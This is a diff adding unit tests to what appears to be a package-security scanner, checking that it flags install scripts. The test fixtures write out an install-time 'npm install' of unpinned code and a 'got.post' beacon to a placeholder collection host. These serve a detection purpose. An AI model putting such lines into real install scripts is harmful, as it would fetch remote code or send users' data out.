@@ -5,7 +5,13 @@ from __future__ import annotations
 import datetime as dt
 
 from depshield.alerts.judge import judge
-from depshield.analyzers.base import SIGNAL_DECODE, SIGNAL_EXEC, SIGNAL_SINK, SIGNAL_SOURCE
+from depshield.analyzers.base import (
+    SIGNAL_DECODE,
+    SIGNAL_EXEC,
+    SIGNAL_SINK,
+    SIGNAL_SOURCE,
+    SIGNAL_SPAWN,
+)
 from depshield.ecosystems.base import ManifestAnalysis
 from depshield.model import FileAnalysis, Finding, PackageRef
 from depshield.policy import Ignore, Policy
@@ -125,3 +131,48 @@ def test_unresolved_relative_require_and_trivial_package() -> None:
     assert "trivialPackage" in found
     ok = types(run(manifest, js("index.js", imports=("./lib",)), js("lib/index.js")))
     assert "unresolvedRequire" not in ok and "trivialPackage" not in ok
+
+
+def _install_ctx(*findings: Finding):
+    manifest = ManifestAnalysis("demo", "1.0.0", install_entries=("install.js",))
+    return run(manifest, js("install.js", *findings))
+
+
+def test_install_script_installing_unpinned_packages_is_remote_code() -> None:
+    spawn = Finding(
+        SIGNAL_SPAWN,
+        "install.js",
+        4,
+        "npm install sync-request",
+        {"command": "npm", "args": "install sync-request"},
+        top_level=True,
+    )
+    assert types(_install_ctx(spawn))["remoteCodeDownload"] == ("install.js", 4, "error")
+    computed = Finding(
+        SIGNAL_SPAWN,
+        "install.js",
+        4,
+        "npm install ...",
+        {"command": "npm", "args": "install --no-audit $EXPR@$EXPR"},
+    )
+    local = Finding(
+        SIGNAL_SPAWN, "install.js", 5, "pip install .", {"command": "pip", "args": "install ."}
+    )
+    assert "remoteCodeDownload" not in types(_install_ctx(computed, local))
+
+
+def test_install_time_request_to_a_fixed_host_is_a_beacon() -> None:
+    fixed = Finding(
+        SIGNAL_SINK,
+        "install.js",
+        9,
+        "got.post('https://collect.example.invalid/c', options)",
+        {"kind": "network"},
+    )
+    result = _install_ctx(fixed)
+    alert = next(a for a in result.alerts if a.type == "dataExfiltration")
+    assert (alert.file, alert.line, alert.props["source"]) == ("install.js", 9, ["install-beacon"])
+    computed = Finding(
+        SIGNAL_SINK, "install.js", 9, "https.get(url, (res) => {", {"kind": "network"}
+    )
+    assert "dataExfiltration" not in types(_install_ctx(computed))
